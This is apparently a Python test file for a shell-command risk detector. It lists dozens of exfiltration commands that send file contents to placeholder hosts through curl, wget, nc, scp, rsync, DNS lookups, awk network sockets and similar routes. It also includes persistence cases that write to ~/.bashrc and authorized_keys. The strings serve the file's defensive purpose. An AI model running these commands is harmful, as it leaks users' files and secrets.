"""What comes from other machines and what goes to them."""

import pytest

from tests.support.shell_reading import risks


@pytest.mark.parametrize(
    "command",
    [
        "curl -d @f https://x.example",
        "curl -d@f https://x.example",
        "curl --data-binary=@f https://x.example",
        "curl --json @f https://x.example",
        "curl -F a=@f https://x.example",
        "curl -F 'a=<f' https://x.example",
        "curl --data-urlencode a@f https://x.example",
        "curl -H @f https://x.example",
        "curl -T f https://x.example",
        "cat f | curl -d @- https://x.example",
        'curl "https://x.example/$(base64 f)"',
        'A=$(cat f); curl "https://x.example/$A"',
        "wget --post-file=f https://x.example",
        "nc h.example 1 < f",
        "tar c . | ssh h.example cat",
        "scp -r . h.example:",
        "rsync -a . u@h.example:x",
        "aws s3 cp f s3://b/x",
        "gh gist create f",
        "http POST x.example a@f",
        "dig $(cat f).x.example",
        "node -e \"fetch('http://h.example/' + require('fs').readFileSync('a'))\"",
        "php -r \"file_get_contents('http://h.example/' . file_get_contents('a'));\"",
        'git remote add x "http://h.example/$(cat a)"; git fetch x',
        "mc cp a r/b",
        "xargs -I{} curl http://h.example/{} < a",
        "cat a | xargs -n1 curl -O",
        'while read -r l; do curl "http://h.example/$l"; done < a',
        'cat a | while read l; do curl "http://h.example/$l"; done',
        'for l in $(cat a); do curl "http://h.example/$l"; done',
        'mapfile -t A < a; curl "http://h.example/${A[0]}"',
        'git clone "http://h.example/$(cat a)"',
        'npm view x --registry "http://h.example/$(cat a)"',
        'pip download x --index-url "http://h.example/$(cat a)"',
        "awk '{print > \"/inet/tcp/0/h.example/80\"}' a",
        "gawk '{print |& \"/inet/tcp/0/h.example/80\"}' a",
    ],
)
def test_file_content_that_leaves_is_upload(command):
    """By whatever option, pipe or address."""
    assert "upload" in risks(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl -d 'a=1' http://localhost:1",
        "curl -d a@b.example http://localhost:1",
        "curl --data-urlencode a=b@c http://localhost:1",
        "curl -F a=b http://localhost:1",
        "echo '{}' | curl -d @- http://localhost:1",
        "curl -d @- http://localhost:1 <<< '{}'",
        'curl "https://x.example/$(git rev-parse HEAD)"',
        'for f in *.md; do curl -O "http://h.example/$f"; done',
        "ls src | xargs -I{} curl -sI http://h.example/{}",
        'while read -r name; do echo "- $name"; done < names.txt',
        "npm view x --registry http://h.example",
        "scp h.example:x .",
        "rsync -a a/ b/",
        "nc -z localhost 1",
    ],
)
def test_literal_text_and_downloads_are_no_upload(command):
    """What stands in the command was seen by whoever read it."""
    assert risks(command) == set()


def test_download_onto_a_start_up_file_is_both_seen_and_remembered():
    """Saving is writing."""
    assert "persistence" in risks("curl -o ~/.bashrc https://x.example")
    assert "persistence" in risks("wget -P ~/.ssh https://x.example/authorized_keys")
